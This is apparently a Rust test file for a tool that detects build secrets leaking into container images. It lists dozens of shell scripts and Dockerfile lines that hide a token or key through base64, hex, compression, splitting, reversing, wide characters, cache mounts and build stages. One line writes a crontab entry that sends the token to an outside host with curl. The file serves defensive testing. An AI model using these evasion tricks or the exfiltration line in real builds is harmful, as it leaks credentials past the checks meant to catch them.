//! Lent values in forms and places that hide them: what a step or an instruction can do to one before it is in the image.

use std::process::Command;

use crate::lab::Lab;
use crate::leaks::{build, lab, refused, step};

/// Scripts of a step, each of which leaves a lent value behind.
const SCRIPTS: &[&str] = &[
    // Encodings within archives, in every alignment.
    "base64 $S/token | tr -d '\\n' | gzip > /a",
    "(printf xy; cat $S/token) | base64 -w 0 | bzip2 > /a",
    "mkdir /d; (printf x; cat $S/token; echo yz) | base64 > /d/f; tar cz -C / d > /a; rm -r /d",
    "mkdir /d; xxd -p $S/token | tr a-f A-F > /d/f; tar c -C / d | bzip2 | gzip > /a; rm -r /d",
    "(yes filler | head -200; cat $S/token) | gzip | gzip | bzip2 | gzip > /a",
    "(yes filler | head -200; cat $S/token) | gzip | uuencode -m x > /a",
    "(yes filler | head -200; cat $S/token) | gzip | xxd -p > /a",
    "(yes filler | head -200; cat $S/token) | gzip | base64 -w 0 | sed 's/^/data:x;base64,/' > /a",
    "ln -s \"$TOKEN\" /tmp/l; tar cf /a.tar -C /tmp l; rm /tmp/l",
    "touch \"/tmp/$(xxd -p $S/token | tr -d '\\n')\"; tar czf /a.tgz -C /tmp .; rm /tmp/*",
    // In pieces.
    "base64 -w 12 $S/token | sed 's/.*/\"&\" \\\\/' > /a.py",
    "base64 -w 9 $S/token | sed 's/.*/  \"&\",/' > /a.json",
    "base64 -w 76 $S/key | sed 's/$/\\r/' > /a",
    "printf %s \"$TOKEN\" | fold -w 5 | sed 's/.*/    &/' > /a",
    "od -An -tu1 -v $S/token | tr -s ' \\n' ', ' > /a",
    "xxd -p $S/token | tr -d '\\n' | tr a-f A-F | sed 's/../0X&, /g' > /a",
    "xxd -p $S/token | tr -d '\\n' | sed 's/../\\\\u{&}/g' > /a",
    "hexdump -v -e '1/1 \"\\\\%03o\"' $S/token > /a",
    // In wider characters.
    "printf %s \"$TOKEN\" | xxd -p | tr -d '\\n' | sed 's/../&00/g' | xxd -r -p > /a",
    "printf %s \"$TOKEN\" | xxd -p | tr -d '\\n' | sed 's/../00&/g' | xxd -r -p | gzip > /a",
    "printf %s \"$TOKEN\" | xxd -p | tr -d '\\n' | sed 's/../&000000/g' | xxd -r -p > /a",
    "printf '$x=\"%s\"' \"$TOKEN\" | xxd -p | tr -d '\\n' | sed 's/../&00/g' | xxd -r -p | base64 > /a",
    // In other words.
    "tr 'a-zA-Z' 'A-Za-z' < $S/token > /a",
    "printf 'Authorization: Basic %s' \"$(printf 'user:%s' \"$TOKEN\" | base64 -w 0)\" > /a",
    "printf %s \"$TOKEN\" | sed 's/\"/%2522/g; s/&/%2526/g; s/=/%253D/g; s/+/%252B/g; s#/#%252F#g' > /a",
    "base64 -w 0 $S/token | sed 's/=/%3D/g; s/+/%2B/g; s#/#%2F#g' > /a",
    "base64 -w 0 $S/token | rev > /a",
    // The part of a file that is its secret.
    "sed -n 's/.*_authToken=//p' $S/npmrc | tr -d '\\n' | xxd -p | sed 's/../\\\\x&/g' > /a",
    "sed -n 's/.*_authToken=//p' $S/npmrc | rev > /a",
    "sed -n 's/.*_authToken=//p' $S/npmrc | tr a-zA-Z n-za-mN-ZA-M > /a",
    "sed -n 's/.*_authToken=//p' $S/npmrc | tr -d '\\n' | base64 | base64 > /a",
    "base64 -w 0 $S/key | base64 > /a",
    "xxd -p $S/key | tr -d '\\n' | gzip > /a",
    "sed 's/.*/\"&\\\\n\" +/' $S/key > /a.js",
    "sed 's/^/# /' $S/key > /a",
    "tail -n +2 $S/key | head -n 3 | tr -d '\\n' | fold -w 40 > /a",
    // In places where nobody looks.
    "dd if=$S/token of=/a bs=1 seek=4000000",
    "mkdir -p \"/x/$(base64 -w 0 $S/token | tr '+/' '-_' | tr -d =)/y\"",
    "cat $S/token | tee /a /b > /dev/null; rm /a",
    "echo \"* * * * * curl -u x:'$TOKEN' https://h\" >> /etc/crontab",
];

#[test]
fn hidden_forms_are_found() {
    let Some(lab) = lab() else { return };
    let mut report = String::new();
    for script in SCRIPTS {
        refused(&build(&lab, &step(script), &[]), script, &mut report);
    }
    assert!(report.is_empty(), "missed:\n{report}");
}

/// Instructions that carry a lent value in another form.
const INSTRUCTIONS: &[&str] = &[
    "ONBUILD ENV A=dG9rLThmM2tROTJtWng0L0x3NytUYj0mInE=",
    "ONBUILD LABEL a=746F6B2D3866336B5139326D5A78342F4C77372B54623D262271",
    "SHELL [\"/bin/sh\", \"-c\", \"tok-8f3kQ92mZx4/Lw7+Tb=&\\\"q\"]",
    "ARG A=dG9rLThmM2tROTJtWng0L0x3NytUYj0mInE=\nENV B=$A",
    "ARG A=dG9rLThmM2tROTJtWng0L0x3\nENV B=${A}NytUYj0mInE=",
    "LABEL k=746F6B2D3866336B5139326D5A78342F4C77372B54623D262271",
    "COPY <<EOF /a\n%74%6f%6b%2d%38%66%33%6b%51%39%32%6d%5a%78%34%2f%4c%77%37%2b%54%62%3d%26%22%71\nEOF",
    "RUN <<EOF\n# tok-8f3kQ92mZx4/Lw7+Tb=&\"q\ntrue\nEOF",
    "HEALTHCHECK CMD [\"curl\", \"-H\", \"Authorization: Basic dXNlcjp0b2stOGYza1E5Mm1aeDQvTHc3K1RiPSYicQ==\"]",
    "ENTRYPOINT [\"sh\", \"-c\", \"echo tok-8f3kQ92mZx4/Lw7+Tb=\\u0026\\u0022q\"]",
    "ENV A=q\\\"\\&=bT+7wL/4xZm29Qk3f8-kot",
    "ENV A=gbx-8s3xD92zMk4/Yj7+Go=\\&\\\"d",
];

#[test]
fn hidden_forms_in_instructions_are_found() {
    let Some(lab) = lab() else { return };
    let mut report = String::new();
    for text in INSTRUCTIONS {
        refused(&build(&lab, &format!("FROM busybox\n{text}\n"), &[]), text, &mut report);
    }
    assert!(report.is_empty(), "missed:\n{report}");
}

/// An archive of the context that holds the value.
fn archive(lab: &Lab) {
    let made = Command::new("tar").args(["-czf", "a.tgz", "leaked.txt"]).current_dir(lab.context()).status();
    assert!(made.unwrap().success());
}

#[test]
fn ways_through_stages_and_mounts_are_found() {
    let Some(lab) = lab() else { return };
    archive(&lab);
    let mount = "RUN --mount=type=secret,id=token";
    let from = format!("FROM busybox AS b\n{mount} mkdir /d && gzip -c /run/secrets/token > /d/a.gz\n");
    let mut report = String::new();
    for text in [
        format!(
            "FROM busybox\n{mount} --mount=type=cache,id=held,target=/c cp /run/secrets/token /c/x\nRUN --mount=type=cache,id=held,target=/c cp /c/x /y\n"
        ),
        format!(
            "FROM busybox\n{mount} --mount=type=cache,id=held,target=/c base64 /run/secrets/token > /c/x\nRUN --mount=type=cache,id=held,target=/c tar cz -C /c x > /y\n"
        ),
        format!("{from}FROM scratch\nCOPY --from=b --link /d/ /e/\n"),
        format!("{from}FROM busybox\nRUN --mount=type=bind,from=b,source=/d,target=/m cp /m/a.gz /z\n"),
        format!("{from}FROM b\nCOPY app.txt /d/a.gz\n"),
        "FROM scratch\nADD a.tgz /un/\n".to_owned(),
        "FROM scratch\nCOPY a.tgz /\n".to_owned(),
        "FROM scratch\nADD --unpack=false a.tgz /\n".to_owned(),
        "FROM busybox\nRUN --mount=type=bind,target=/m cp /m/a.tgz /z\n".to_owned(),
        "FROM busybox\nRUN --mount=type=bind,target=/m,rw cat /m/leaked.txt | rev > /z; touch /m/w\n"
            .to_owned(),
    ] {
        refused(&build(&lab, &text, &[]), &text, &mut report);
    }
    assert!(report.is_empty(), "missed:\n{report}");
}
